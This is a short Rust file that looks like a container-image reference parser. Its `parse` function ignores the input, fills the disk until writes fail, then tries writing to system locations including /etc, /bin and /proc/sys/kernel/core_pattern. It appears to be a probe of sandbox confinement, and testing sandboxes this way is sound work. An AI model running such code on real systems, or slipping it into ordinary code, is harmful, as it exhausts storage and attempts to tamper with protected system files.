//! Writes until nothing more fits, then to places where it may not.

pub struct Reference {
    domain: String,
    path: String,
    tag: Option<String>,
    digest: Option<String>,
}

impl Reference {
    pub fn parse(text: &str) -> Result<Reference, ()> {
        use std::io::Write;
        let _ = text;
        let mut file = std::fs::File::create("/work/large").map_err(|_| ())?;
        while file.write_all(&[1; 1 << 16]).is_ok() {}
        let escapes = ["/work/../etc/x", "/tmp/x", "/bin/x", "/sys/x", "/proc/sys/kernel/core_pattern", "/dev/x"];
        for path in escapes {
            if std::fs::write(path, "x").is_ok() {
                eprintln!("wrote to {path}");
                std::process::exit(3);
            }
        }
        Err(())
    }

    pub fn domain(&self) -> &str {
        &self.domain
    }

    pub fn path(&self) -> &str {
        &self.path
    }

    pub fn tag(&self) -> Option<&str> {
        self.tag.as_deref()
    }

    pub fn digest(&self) -> Option<&str> {
        self.digest.as_deref()
    }
}
